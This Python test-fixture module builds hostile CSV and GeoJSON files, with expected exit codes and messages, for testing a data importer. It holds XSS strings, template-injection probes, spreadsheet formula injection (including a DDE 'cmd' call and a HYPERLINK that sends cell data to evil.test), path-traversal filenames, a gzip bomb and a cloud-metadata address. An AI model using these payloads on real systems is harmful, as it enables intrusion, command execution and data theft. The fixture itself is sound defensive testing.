# ruff: noqa: E501 - a hostile file stands on one line
"""Files that do harm or mislead, and what is right for each: built here, kind by kind."""

import gzip
import io
import json
import zipfile
from typing import NamedTuple

HEADER = "id,who,what,place,when,lat,lon"
LATEST = "2021-05-01"

MARKUP = (
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    '"><svg onload=alert(1)>',
    "'-alert(1)-'",
    '<a href="javascript:alert(1)">x</a>',
    '<iframe srcdoc="<script>parent.alert(1)</script>">',
    "<!--<script>",
    "</title><script>alert(1)</script>",
    "<style>body{display:none}</style>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
)
TEMPLATES = (
    *("{{7*7191}}", "{{cycler.__init__.__globals__.os.getpid()}}", "{{lipsum.__globals__.__name__}}", "${7*7191}"),
    *("{% for i in range(3) %}A{% endfor %}", "{% discount", "{# swallowed #}", "{{", "}}", "#{7*7191}"),
    *("{{ range(10**8)|list }}", "<%= 7*7191 %>"),
)
FORMULAS = (
    *("=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", '=HYPERLINK("http://evil.test/?"&A1,"ok")'),
    *("=cmd|' /C calc'!A0", "＝1+1", " =1+1", '"=1+1"', ";=1+1", "'=1+1", "-33.87 and falling"),
)
MARKDOWN = (
    *("![x](https://tracker.test/p.png)", "[x](javascript:alert(1))", ":red[x] :material/delete: :smile:", "# Huge"),
    *(r"$\sum x$", "**b** ~~s~~ `c`", '[x](https://evil.test "y")', "<https://evil.test>", "---", "[!NOTE]"),
    *("| a | b |\n|-|-|", "&lt;b&gt;"),
)
NAMES = (
    *("../../etc/passwd.csv", "..\\..\\x.csv", "a.csv.html", "a.html%00.csv", "<img src=x onerror=alert(1)>.csv"),
    *("{{7*7191}}.csv", "CON.csv", "x" * 251 + ".csv", "\u202evsc.exe", ".csv", 'a b;c"d.csv', "=1+1.csv", "a%0ab.csv"),
)


class Hostile(NamedTuple):
    """A file, the exit code that is right for it, its rows kept and flagged (None: not asked), and words that have to
    be said in notices or faults. `texts` are cells that have to come through as they stand."""

    name: str
    file: str
    content: bytes
    code: int
    kept: int | None = None
    flagged: int | None = None
    says: tuple[str, ...] = ()
    texts: tuple[str, ...] = ()


def table(*rows: str, header: str = HEADER) -> bytes:
    return "\n".join([header, *rows, ""]).encode()


def quoted(text: str) -> str:
    return '"' + text.replace('"', '""') + '"'


def row(
    number: int, what: str = "met", who: str = "Ann", place: str = "Paris", when: str = LATEST, at: str = "48.85,2.35"
):
    return f"{number},{quoted(who)},{quoted(what)},{quoted(place)},{quoted(when)},{at}"


def tables() -> list[Hostile]:
    everywhere = [row(i, text, text, text) for i, text in enumerate(MARKUP)]
    templates = [row(i, text, text, text) for i, text in enumerate(TEMPLATES)]
    markdown = [row(i, text, text) for i, text in enumerate(MARKDOWN)]
    formulas = [row(i, text) for i, text in enumerate(FORMULAS)]
    return [
        Hostile("markup", "a.csv", table(*everywhere), 0, len(MARKUP), 0, texts=MARKUP),
        Hostile("templates", "a.csv", table(*templates), 0, len(TEMPLATES), 0, texts=TEMPLATES),
        Hostile("markdown", "a.csv", table(*markdown), 0, len(MARKDOWN), 0, texts=MARKDOWN),
        Hostile("formulas", "a.csv", table(*formulas), 0, len(FORMULAS), 0, texts=("=1+1", "-33.87 and falling", "'=1+1")),
        Hostile(
            "markup in the header", "a.csv", table(f"{row(1)},v,v,v", header=f"{HEADER},<img src=x onerror=a>,{{{{7*7191}}}},=1+1"),
            0, 1, 0, texts=("<img src=x onerror=a>", "{{7*7191}}", "=1+1"),
        ),
        Hostile("double columns", "a.csv", table("1,Ann,Bob,48.85,2.35,1,2", header="id,who,who, Lat ,LON,lat,when"), 2, 0, 1,
                says=("'who'", "'lat'", "more than once")),
        Hostile("byte order mark", "a.csv", b"\xef\xbb\xbf" + table(row(7)), 0, 1, 0, texts=("7",)),
        Hostile("Windows-1252", "a.csv", table(row(1, who="Zoë Müller", place="Café – “Orléans” €5")).decode().encode("cp1252"),
                0, 1, 0, ("Windows-1252",), ("Zoë Müller", "Café – “Orléans” €5")),
        Hostile("UTF-16", "a.csv", table(row(1, who="Łukasz")).decode().encode("utf-16"), 0, 1, 0, texts=("Łukasz",)),
        Hostile("NUL", "a.csv", table(row(1, who="An\0n")), 2, 0, 0, ("binary: NUL at byte",)),
        Hostile("control characters", "a.csv", table(row(1, who="A\x1b[31mnn\x07", what="x\x08y\x0b\x0c\x7f\x85z")), 0, 1, 0,
                ("control characters",), ("A[31mnn", "xyz")),
        Hostile("ragged rows", "a.csv", table(row(1), "2,Bob,met,Paris", row(3) + ",extra,extra", "4,Di,met,Paris, France,2021-05-01,48.85,2.35",
                row(5)), 1, 2, 3, ("row 3", "row 4", "row 5", "the header has 7 columns")),
        Hostile("one value too many on every line", "a.csv", table(row(1) + ",x", row(2) + ",y"), 2, 0, 2, ("8 cells",)),
        Hostile("a text without an end", "a.csv", table(row(1, "x" * 200_000), row(2)), 1, 1, 1, ("200,000 characters", "2,000")),
        Hostile("twenty thousand columns", "a.csv", b"a," * 20_000 + b"a\n" + b"1," * 20_000 + b"1\n", 2, 0, 1, ("at most 200",)),
        Hostile("only a header", "a.csv", table(), 2, 0, 0, ("no rows below the header",)),
        Hostile("nothing", "a.csv", b"", 2, 0, 0, ("the file is empty",)),
        Hostile("blanks alone", "a.csv", b" \n\n", 2, 0, 0, ("the file is empty",)),
        Hostile("semicolons and decimal commas", "a.csv",
                b"id;who;what;place;when;lat;lon\n1;Ann;met;Paris;2021-05-01;48,85;2,35\n2;Bob;met;Sydney;2021-05-02;-33,87;151,21\n",
                0, 2, 0, ("semicolon", "decimal comma")),
    ]  # fmt: skip


def coordinates() -> list[Hostile]:
    bad = ("NaN", "inf", "-Infinity", "1e400", "N/A", "null", "None", "-", "0x10", "1_000", "٤٨", "--48", "48.85.1")
    rows = [row(i, at=f"{cell},2") for i, cell in enumerate(bad)]
    good = [row(20 + i, at=at) for i, at in enumerate(("48.85,2.35", " 48.85 , 2.35 ", "+48.85,2.35", "4.885e1,2.35"))]
    degrees = ("\"48°51'24\"\"N\",\"2°21'03\"\"E\"", "48.85N,2.35E", "S 33 52 10,E 151 12 30", '"48,85","2,35"',
               "48.85°,2.35°", "\"48°61'00\"\"N\",2E", "48N,2S")  # fmt: skip
    swapped = [row(1, place="Sydney", at="151.21,-33.87"), row(2, place="Tokyo", at="139.69,35.68"), row(3)]
    return [
        Hostile("swapped", "a.csv", table(*swapped), 1, 1, 2, ("latitude beyond 90: swapped?", "row 2", "row 3")),
        Hostile("no numbers", "a.csv", table(*rows, *good), 1, 4, len(bad), ("is not a number of degrees",)),
        Hostile("another minus, and a row without coordinates", "a.csv",
                table(*good, row(30, at="−48.85,2"), row(31, at=",")), 1, 4, 2, ("wrong sign?", "stands for two positions")),
        Hostile("degrees, minutes and seconds", "a.csv", table(*(row(i, at=at) for i, at in enumerate(degrees))), 1, 5, 2,
                ("61 minutes", "longitude with the letter S")),
        Hostile("nowhere", "a.csv", table(row(1, at="0,0"), row(2)), 1, 1, 1, ("Gulf of Guinea",)),
        Hostile("metres", "a.csv", table(row(1, at="6250000,2061600"), row(2)), 1, 1, 1, ("Web Mercator",)),
    ]  # fmt: skip


def ids_and_times() -> list[Hostile]:
    typed = ("1", "1", "1", "1.0", "01", "", "9007199254740993", "00123")
    who = ("Ann", "Bob", *["Ann"] * 6)
    double = [f"{one},{name},met,Paris,2021-05-01,48.85,2.35" for one, name in zip(typed, who, strict=True)]
    ancient = ("1677-09-20", "1066-10-14", "0476-09-04", "0001-01-01", "0000-01-01", "-0043-03-15", "44 BC", "1582-10-10",
               "2262-04-12", "9999-12-31", "10000-01-01")  # fmt: skip
    invalid = (
        "2021-02-30",
        "2023-02-29",
        "2021-13-01",
        "2021-00-10",
        "0000-00-00",
        "2021-05-01T25:00",
        "yesterday",
        "Feb 30 2021",
    )
    unusual = ("2021-05-01T24:00:00", "2021-05-01T23:59:60Z", "2021-W05-3", "2021-123")
    zones = ("2021-03-28T01:30:00Z", "2021-03-28T02:30:00+01:00", "2021-03-28 02:30", "2021-03-27T21:00:00-0430",
             "2021-03-28T01:30:00 EST", "2021-10-31 02:30 Europe/Berlin", "2021-03-28T01:30:00.123456789Z")  # fmt: skip
    unknown = ("2021-03-28T01:30:00+99:00", "2021-03-28T01:30:00 Mars/Olympus")
    sides = "id,who,what,place,start,end,lat,lon"
    return [
        Hostile("double ids", "a.csv", table(*double), 1, 4, 4, ("is the id of rows 3 and 4, too", "Rows 2 and 4 are the same"),
                ("1.0", "01", "00123", "9007199254740993")),
        Hostile("ancient and far dates", "a.csv", table(*(row(i, when=when) for i, when in enumerate(ancient))), 0, 11, 0),
        Hostile("dates that are none", "a.csv", table(*(row(i, when=when) for i, when in enumerate((*invalid, *unusual)))), 1, 4, 8,
                ("there is no 30 February 2021", "24:00 is read as 00:00 of the next day", "second 60")),
        Hostile("zones", "a.csv", table(*(row(i, when=when) for i, when in enumerate((*zones, *unknown)))), 1, 7, 2,
                ("+99:00", "not taken as UTC", "Mars/Olympus", "in order as instants")),
        Hostile("an end before its start", "a.csv",
                table("1,Ann,x,Paris,2021-05-02,2021-05-01,48.85,2.35", "2,Bob,x,Paris,2021-05-01,,48.85,2.35", header=sides), 1, 1, 1,
                ("is before the start",)),
        Hostile("one instant", "a.csv", table(row(1), row(2)), 0, 2, 0),
    ]  # fmt: skip


def other_kinds() -> list[Hostile]:
    workbook = io.BytesIO()
    with zipfile.ZipFile(workbook, "w") as held:
        held.writestr("[Content_Types].xml", "<x/>")
        held.writestr("xl/workbook.xml", "<x/>")
    prose = "Ann met Bob in <img src=x onerror=alert(1)> on 1 May 2021. {{7*7191}} flew to ${alert(1)}.\n</script> in Paris.\n"
    return [
        Hostile("a workbook called CSV", "a.csv", workbook.getvalue(), 2, 0, 0, ("this is an Excel workbook",)),
        Hostile("a gzip bomb", "a.csv", gzip.compress(b"0" * 10_000_000), 2, 0, 0, ("compressed with gzip",)),
        Hostile("a picture", "a.csv", b"\x89PNG\r\n\x1a\n", 2, 0, 0, ("a picture",)),
        Hostile("prose", "a.txt", prose.encode(), 2, 0, None, ("no column says who, where, when or what",)),
        *(Hostile(f"a name: {name[:20]!a}", name, table(), 2, 0, 0, ("no rows below the header",)) for name in NAMES),
    ]


def feature(geometry: object, **properties: object) -> dict[str, object]:
    return {"type": "Feature", "properties": {"who": "Ann", "when": LATEST, **properties}, "geometry": geometry}


def point(*coordinates: object) -> dict[str, object]:
    return {"type": "Point", "coordinates": list(coordinates)}


def collection(*features: object, **more: object) -> bytes:
    return json.dumps({"type": "FeatureCollection", "features": list(features), **more}).encode()


def geojson() -> list[Hostile]:
    here = point(2.35, 48.85)
    line, ring = [[2, 48], [3, 49]], [[2, 48], [3, 48], [3, 49], [2, 48]]
    shapes = [
        {"type": kind, "coordinates": coordinates}
        for kind, coordinates in (
            *(("Point", [2, 48]), ("MultiPoint", line), ("LineString", line), ("MultiLineString", [line])),
            *(("Polygon", [ring]), ("MultiPolygon", [[ring]])),
        )
    ]
    shapes.append({"type": "GeometryCollection", "geometries": [point(2, 48)]})
    bad = [
        *(
            point(),
            point("2", "48"),
            point(2),
            {"type": "Point"},
            {"type": "Polygon", "coordinates": [[[0, 0], [1, 1]]]},
        ),
        *({"type": "LineString", "coordinates": [[0, 0]]}, {"type": "point", "coordinates": [2, 48]}, 5, []),
        *({"type": "Point", "coordinates": {"lat": 48, "lon": 2}}, point([2, 48]), point(True, False)),
    ]
    crs = {"type": "name", "properties": {"name": "urn:ogc:def:crs:EPSG::3857"}}
    nested = feature(here, who={"first": "<b>Ann</b>"}, when=[LATEST], tags=["{{7*7191}}", None, True], n=None)
    documents = {
        "features is an object": '{"type":"FeatureCollection","features":{"0":1}}',
        "features missing": '{"type":"FeatureCollection"}',
        "junk": '{"type":"FeatureCollection","features":[null,1,"x",[],{},{"type":"Feature"}]}',
        "an array": "[]",
        "a path": '"/etc/hostname"',
        "an address": '"http://169.254.169.254/latest/meta-data/"',
        "cut short": collection(feature(here)).decode()[:-40],
        "no features": '{"type":"FeatureCollection","features":[]}',
        "a number": "5",
        "nothing": "",
        "latitude first": collection(feature(point(-33.87, 151.21))).decode(),
    }
    return [
        Hostile("markup in properties", "a.geojson", collection(*(feature(here, who=text, **{text: "key"}) for text in MARKUP)), 0,
                len(MARKUP), 0, texts=MARKUP),
        Hostile("templates in properties", "a.geojson", collection(*({**feature(here, who=text), "id": text} for text in TEMPLATES)),
                0, len(TEMPLATES), 0, texts=TEMPLATES),
        Hostile("no geometry", "a.geojson", collection(feature(None), {**feature(None), "properties": {"who": "Bob", "place": "Paris"}},
                feature(here)), 1, 2, 1, ("says nowhere where it happened",)),
        Hostile("every geometry", "a.geojson", collection(*map(feature, shapes)), 0, 7, 0),
        Hostile("bad geometries", "a.geojson", collection(*map(feature, bad), feature(point(2, 48, 100, 5))), 1, 1, len(bad)),
        Hostile("metres by a member crs", "a.geojson", collection(feature(point(261600.0, 6250000.0)), crs=crs), 2, 0, 1, ("Web Mercator",)),
        Hostile("nested properties", "a.geojson", collection(nested), 1, 0, 1),
        Hostile("one feature", "a.geojson", json.dumps(feature(here)).encode(), 0, 1, 0),
        Hostile("one geometry", "a.geojson", json.dumps(here).encode(), 0, 1, 0),
        *(Hostile(f"document: {name}", "a.geojson", text.encode(), 2, 0) for name, text in documents.items()),
    ]  # fmt: skip


ALL = [*tables(), *coordinates(), *ids_and_times(), *other_kinds()]
FEATURES = geojson()
